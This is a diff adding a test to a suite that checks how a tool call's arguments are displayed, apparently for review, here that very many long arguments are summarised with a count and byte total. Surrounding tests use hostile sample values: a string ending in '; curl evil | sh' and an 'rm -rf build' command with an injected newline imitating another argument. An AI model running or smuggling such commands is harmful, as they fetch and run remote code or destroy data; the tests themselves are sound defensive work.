@@ -147,6 +147,14 @@ describe("what is shown", () => {
     assert.equal(long.bytes, 1_000_016);
     assert.ok(long.whole?.endsWith("; curl evil | sh"));
   });
+  test("[AP10] of a call with very many arguments the others are counted, with the bytes of their lines", () => {
+    const names = Array.from({ length: 100 }, (_, index) => `a${String(index).padStart(2, "0")}`);
+    const { text } = shownCall(Object.fromEntries(names.map((name) => [name, "x".repeat(300)])));
+    const [, count = "", bytes = ""] = /\n\[\.\.\. (\d+) more arguments of (\d+) bytes are not shown \.\.\.\]$/.exec(text) ?? [];
+    assert.ok(Number(count) > 50);
+    // `a00: `, the value, and the end of its line.
+    assert.equal(Number(bytes), Number(count) * (5 + 300 + 1));
+  });
   test("[AP10] [S13] no argument hides or imitates another one", () => {
     const { text } = shownCall({
       command: "rm -rf build\nworkdir: scratch",
